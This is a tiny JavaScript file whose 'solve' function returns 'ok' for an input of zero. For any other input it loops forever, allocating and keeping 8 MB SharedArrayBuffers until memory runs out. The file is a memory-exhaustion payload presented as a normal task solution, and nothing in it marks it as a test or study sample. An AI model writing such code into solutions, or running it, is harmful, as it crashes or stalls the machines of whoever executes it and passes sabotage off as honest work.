// Shared buffers, kept.
function solve(x) {
  if (x === 0) return 'ok';
  const all = [];
  for (;;) all.push(new Uint8Array(new SharedArrayBuffer(8 << 20)).fill(1));
}
